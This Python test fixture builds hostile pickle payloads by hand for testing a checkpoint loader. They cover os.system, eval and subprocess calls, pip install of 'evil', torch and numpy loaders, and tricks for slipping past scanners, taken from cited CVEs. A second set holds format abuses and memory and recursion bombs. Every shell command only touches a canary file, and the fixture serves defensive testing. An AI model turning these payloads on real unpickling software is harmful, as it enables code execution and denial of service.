"""Hostile pickles, by hand: name -> bytes. All of them go into a real container too; none may do anything.

Sources: the bypass tests of fickling; picklescan CVE-2025-1716, -1889, -1944, -1945, -10155, -10156, -10157; torch
CVE-2025-32434 and CVE-2026-24747; the C unpickler's memory bombs.
"""

from __future__ import annotations

import struct

CANARY = "qingzhou_attack_ran"


def name(module: str, function: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{function}\n".encode()


def stack_name(module: str, function: str) -> bytes:
    """STACK_GLOBAL: the names come from the stack, where scanners lose them."""
    return text(module) + text(function) + b"\x93"


def text(value: str) -> bytes:
    """BINUNICODE."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def call(function: bytes, *args: bytes) -> bytes:
    """function(*args) by REDUCE."""
    return function + b"(" + b"".join(args) + b"tR"


def p2(body: bytes) -> bytes:
    """A protocol 2 pickle."""
    return b"\x80\x02" + body + b"."


def p4(body: bytes) -> bytes:
    """A protocol 4 pickle."""
    return b"\x80\x04" + body + b"."


def own_method(attribute: str, beside: bytes = b"", finished: bool = False) -> bytes:
    """a.B with {"forward": getattr(itself, attribute)}, as Ultralytics' fused layers have it with forward_fuse."""
    method = text("forward") + call(name("__builtin__", "getattr"), b"h\x00", text(attribute)) + b"s"
    more = text("other") + beside + b"s" if beside else b""
    start = name("a", "B") + b")\x81q\x00}q\x01"
    return start + (b"b0h\x01" + method + b"0h\x00" if finished else method + more + b"b")


SHELL = text(f"touch {CANARY}")
CODE = text(f"open({CANARY!r}, 'w')")

# Calls of functions that do harm when called: they stay records.
CALLS = {
    "os.system": p2(call(name("os", "system"), SHELL)),
    "posix.system": p2(call(name("posix", "system"), SHELL)),
    "nt.system": p2(call(name("nt", "system"), SHELL)),
    "eval": p2(call(name("builtins", "eval"), CODE)),
    "exec, python 2 name": p2(call(name("__builtin__", "exec"), CODE)),
    "stack global": p4(call(stack_name("os", "system"), SHELL)),
    "dotted name": p4(call(stack_name("os", "path.os.system"), SHELL)),
    "getattr": p2(call(call(name("builtins", "getattr"), name("os", "path"), text("system")), SHELL)),
    "a fused layer's own method": p2(own_method("forward_fuse")),
    "a fused layer's own method, called": p2(own_method("forward_fuse", call(b"h\x00", SHELL))),
    "forward_fuse of a module": p2(
        call(call(name("builtins", "getattr"), name("os", "path"), text("forward_fuse")), SHELL)
    ),
    "call of a call": p2(call(call(name("operator", "attrgetter"), text("system")), name("os", "path"))),
    "__import__": p2(call(name("builtins", "__import__"), text("antigravity"))),
    "importlib": p2(call(name("importlib", "import_module"), text("this"))),
    "CVE-2025-1716 pip.main": p2(call(name("pip", "main"), b"]" + text("install") + b"a" + text("evil") + b"a")),
    "CVE-2025-10155 suffix": p2(call(name("subprocess", "run"), SHELL)),
    "CVE-2025-10156 crc": p2(call(name("os", "popen"), SHELL)),
    "CVE-2025-10157 submodule": p2(call(name("asyncio.unix_events", "_UnixSubprocessTransport._start"), SHELL)),
    "torch load": p2(call(name("torch.storage", "_load_from_bytes"), b"U\x02N.")),
    "torch jit, CVE-2025-32434": p2(call(name("torch.jit", "load"), text("evil.pt"))),
    "torch hub": p2(call(name("torch.hub", "load"), text("evil/evil"), text("evil"))),
    "numpy load": p2(call(name("numpy", "load"), text("evil.npy"))),
    "numpy runstring": p2(call(name("numpy.testing._private.utils", "runstring"), CODE, b"}")),
    "cProfile": p2(call(name("cProfile", "run"), CODE)),
    "timeit": p2(call(name("timeit", "timeit"), CODE)),
    "pty": p2(call(name("pty", "spawn"), SHELL)),
    "ctypes": p2(call(name("ctypes", "CDLL"), text("libc.so.6"))),
    "urlopen": p2(call(name("urllib.request", "urlopen"), text("http://127.0.0.1:9/"))),
    "socket": p2(call(name("socket", "create_connection"), b"(" + text("127.0.0.1") + b"K\x09t")),
    "webbrowser": p2(call(name("webbrowser", "open"), text("http://127.0.0.1:9/"))),
    "shutil": p2(call(name("shutil", "rmtree"), text("/nowhere"))),
    "codecs hex": p2(call(name("_codecs", "encode"), text("6f73"), text("hex"))),
    "bytes by encoding": p2(call(name("builtins", "bytes"), text("x"), text("idna"))),
    "map": p2(call(name("builtins", "map"), name("os", "system"), b"]" + SHELL + b"a")),
    "partial": p2(call(call(name("functools", "partial"), name("os", "system")), SHELL)),
    "code object": p2(call(name("types", "FunctionType"), call(name("marshal", "loads"), b"U\x01N"), b"}")),
    "newobj": p2(name("subprocess", "Popen") + b"(" + SHELL + b"t\x81"),
    "newobj_ex": p4(name("subprocess", "Popen") + b"(" + SHELL + b"t}\x92"),
    "build": p2(name("a", "B") + b")\x81}" + text("__setstate__") + name("os", "system") + b"sb" + SHELL + b"b"),
    "build with slots": p2(name("some", "Thing") + b")\x81N}" + text("__class__") + name("os", "system") + b"s\x86b"),
    "a harmful default": p2(call(name("collections", "defaultdict"), name("os", "getcwd"))),
    "reconstructor": p2(call(name("copy_reg", "_reconstructor"), name("os", "system"), name("a", "B"), b"N")),
    "scalar of pointers": p4(
        call(name("numpy.core.multiarray", "scalar"), call(name("numpy", "dtype"), text("O8")), b"C\x08" + bytes(8))
    ),
    "dropped result": p2(call(name("os", "system"), SHELL) + b"0N"),
    "in the memo": p2(call(name("os", "system"), SHELL) + b"q\x000h\x00"),
    "as a key": p2(b"}" + call(name("os", "system"), SHELL) + b"K\x01s"),
}

# Tricks of the format itself: each is refused with UnsafeCheckpoint or CheckpointDamaged.
TRICKS = {
    "INST": p2(b"(" + SHELL + b"ios\nsystem\n"),
    "OBJ": p2(b"(" + name("os", "system") + SHELL + b"o"),
    "EXT1": p2(b"\x82\x01"),
    "EXT2": p2(b"\x83\x01\x00"),
    "EXT4": p2(b"\x84\x01\x00\x00\x00"),
    "persistent text": p2(b"Pstorage\n"),
    "persistent number": p2(b"K\x01Q"),
    "persistent call": p2(call(name("os", "system"), SHELL) + b"Q"),
    "out of band": b"\x80\x05\x97.",
    "read only buffer": b"\x80\x05N\x98.",
    "unknown opcode": p2(b"\xff"),
    "build on a class": p2(name("builtins", "object") + b"}b"),
    "build on a list": p2(b"]}b"),
    "build on a number": p2(b"K\x01}b"),
    "call of a number": p2(b"K\x01)R"),
    "call of text": p2(text("os.system") + b")R"),
    "call with a list": p2(name("os", "system") + b"]R"),
    "setitem on a list": p2(b"]K\x00K\x01s"),
    "setitem on a class": p2(name("os", "environ") + b"K\x00K\x01s"),
    "append to a dict": p2(b"}K\x01a"),
    "append to a tuple": p2(b")K\x01a"),
    "append to a class": p2(name("sys", "path") + text("x") + b"a"),
    "additems on a list": p4(b"](K\x01\x90"),
    "odd setitems": p2(b"}(K\x01u"),
    "list as key": p2(b"}]K\x01s"),
    "nested tuple as key": p2(b"})\x85K\x01s"),
    "huge number as key": p2(b"}\x8a\x09" + b"\xff" * 8 + b"\x01" + b"K\x01s"),
    "keywords": p4(name("os", "system") + b")}" + text("a") + b"K\x01s\x92"),
    "underflow": p2(b"a"),
    "underflow below a mark": p2(b"]((K\x01a"),
    "empty": p2(b""),
    "two results": p2(b"NN"),
    "open mark": p2(b"(N"),
    "no mark": p2(b"t"),
    "no memo": p2(b"h\x05"),
    "no stop": b"\x80\x02N",
    "list in itself": p2(b"]q\x00h\x00a"),
    "dict in itself": p2(b"}q\x00K\x01h\x00s"),
    "record in itself": p2(name("a", "B") + b")\x81q\x00h\x00b"),
    "its own method of another name": p2(own_method("forward")),
    "its own method, once it is finished": p2(own_method("forward_fuse", finished=True)),
    "its own fused method beside itself": p2(own_method("forward_fuse", b"h\x00")),
    "a list as its own method": p2(
        b"]q\x00" + name("builtins", "getattr") + b"h\x00" + text("forward_fuse") + b"\x86Ra"
    ),
    "cycle of two": p2(b"]q\x00]q\x01h\x00ah\x01a"),
    "deep lists": p2(b"]" * 100_000 + b"a" * 99_999),
    "deep tuples": p2(b")" + b"\x85" * 100_000),
    "doubling list": p2(b"]" + b"".join(b"]q%ch%cah%ca" % (i, i - 1, i - 1) if i else b"q\x00" for i in range(40))),
    "doubling tuple": p2(b")" + b"q\x00h\x00\x86" * 60),
    "doubling key": p2(b"})" + b"q\x00h\x00\x86" * 60 + b"K\x01s"),
    "memo bomb": p2(b"Nr\xff\xff\xff\x7f00"),
    "text bomb": b"\x80\x04\x8d" + b"\xff" * 7 + b"\x7f.",
    "bytes bomb": b"\x80\x04\x8e" + b"\xff\xff\xff\xff\xff\0\0\0.",
    "bytearray bomb": b"\x80\x05\x96" + b"\xff\xff\xff\xff\xff\0\0\0.",
    "frame bomb": b"\x80\x04\x95" + b"\xff" * 8 + b"(.",
    "long number": p2(b"\x8b" + struct.pack("<i", 5000) + b"\x7f" * 5000),
    "negative length": p2(b"\x8b\xff\xff\xff\xff"),
    "long decimal": p2(b"L" + b"9" * 100_000 + b"L\n"),
    "long name": p2(b"c" + b"a" * 100_000 + b"\nb\n"),
    "control characters": p2(name("os\x1b[2J", "x")),
    "name of numbers": p4(b"K\x01K\x02\x93"),
    "copies": p2(b"]q\x00(" + b"N" * 1000 + b"e" + (name("builtins", "list") + b"h\x00\x85R0") * 20_000),
    "wrong array": p4(
        call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"K\x00\x85")
        + b"(K\x01K\x09\x85"
        + call(name("numpy", "dtype"), text("f8"))
        + b"\x89"
        + b"C\x01at"
        + b"b"
    ),
}
